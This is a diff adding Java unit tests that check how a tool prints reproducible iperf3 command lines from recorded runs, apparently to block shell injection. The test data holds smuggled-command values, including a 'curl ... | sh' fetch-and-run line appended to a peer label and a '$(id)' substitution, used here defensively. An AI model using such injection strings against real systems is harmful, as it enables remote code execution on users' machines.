@@ -52,6 +52,38 @@ class CommandLinesTest {
                 .isEqualTo("iperf3 -s -p 5201 -1    # on tool-b");
     }
 
+    /** The issue's relabelled peer: pasted as it was printed before, the shell ran curl. */
+    @Test
+    void aPeerLabelThatIsNoHostIsPrintedAsAPlaceholderWithANote() {
+        List<String> lines = linesOf(run("10.0.0.2; curl -s http://x/y | sh #"), List.of());
+
+        assertThat(lines).containsExactly("iperf3 -s -1    # on the peer (its tool was not recorded)",
+                "iperf3 -c <peer> -R -t 4 -O 1 --get-server-output --json-stream    # <peer>: the run's peer label is "
+                        + "not a host name or IP address; put the peer's address here");
+        assertThat(linesOf(run("peer\ncurl -s http://x/y | sh"), List.of())).noneMatch(line -> line.contains("curl")
+                || line.contains("\n"));
+        assertThat(linesOf(run("2001:db8::2"), List.of()).get(1)).startsWith("iperf3 -c 2001:db8::2 -R");
+        assertThat(linesOf(run(null), List.of()).get(1)).as("no peer recorded: the placeholder, nothing to explain")
+                .isEqualTo("iperf3 -c <peer> -R -t 4 -O 1 --get-server-output --json-stream");
+    }
+
+    @Test
+    void anAgentsArgumentsAreEachShellQuotedAndALineBreakIsNeverPrinted() {
+        List<String> quoted = linesOf(run("tool-b"), List.of("/usr/bin/iperf3", "-c", "a b'c$(id)", "-t", "4"));
+        assertThat(quoted.get(1)).isEqualTo("/usr/bin/iperf3 -c 'a b'\\''c$(id)' -t 4");
+
+        List<String> broken = linesOf(run("tool-b"), List.of("/usr/bin/iperf3", "-c", "10.0.0.2\ncurl x | sh"));
+        assertThat(broken.get(1)).as("rebuilt from the summary instead")
+                .isEqualTo("iperf3 -c tool-b -R -t 4 -O 1 --get-server-output --json-stream");
+    }
+
+    private static RunSummary run(String peer) {
+        RunSummary run = run("iperf3", "3.12", null, null);
+        return new RunSummary(run.id(), run.sut(), peer, null, null, List.of(), run.tool(), run.toolVersion(), null,
+                null, "json-stream", run.startedAt(), run.uploadedAt(), "TCP", "download", 1, 4, 1, null, 9.4e8, 9.4e8,
+                null, null, null, 20.0, 30.0, null, null, null, null, null, 8, 3L, "complete", null);
+    }
+
     private static List<String> linesOf(RunSummary run, List<String> command) {
         RunEnvironment environment = new RunEnvironment(run.id(), 3L, null, null,
                 command.isEmpty() ? null : JSON.valueToTree(command));
